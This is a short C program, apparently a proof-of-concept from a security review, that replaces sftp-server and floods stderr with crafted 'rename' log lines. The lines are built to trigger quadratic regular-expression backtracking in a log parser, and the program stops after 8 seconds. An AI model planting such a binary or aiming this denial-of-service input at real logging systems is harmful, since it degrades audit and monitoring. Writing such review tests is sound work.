/*
 * Stands in for /usr/lib/openssh/sftp-server (VE root replaced it): instead
 * of speaking SFTP it writes crafted "rename" log lines to stderr as fast as
 * the pipe takes them (vesh runs it as `sftp-server -l INFO -e`). Each line
 * is `rename old "` + `" new "` x 1150, about 8 KiB, ending in turn with `"`
 * (a well-formed rename: an audit event each) and with `x` (no match: the
 * shape on which a regular expression with two greedy groups backtracks
 * quadratically, 7.6 ms per line here; review M3). Bounded: it stops by itself
 * after 8 seconds, or when stderr closes.
 */
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

int main(void) {
    const int seconds = 8;
    static char line[16384];
    size_t n = 0;
    const char *head = "rename old \"";
    memcpy(line + n, head, strlen(head));
    n += strlen(head);
    for (int i = 0; i < 1150; i++) {
        memcpy(line + n, "\" new \"", 7);
        n += 7;
    }
    line[n++] = '"';
    line[n++] = '\n';
    time_t end = time(NULL) + seconds;
    for (unsigned long k = 0; time(NULL) < end; k++) {
        line[n - 2] = (k & 1) ? 'x' : '"';
        size_t off = 0;
        while (off < n) {
            ssize_t w = write(2, line + off, n - off);
            if (w <= 0) return 1;
            off += (size_t)w;
        }
    }
    return 0;
}
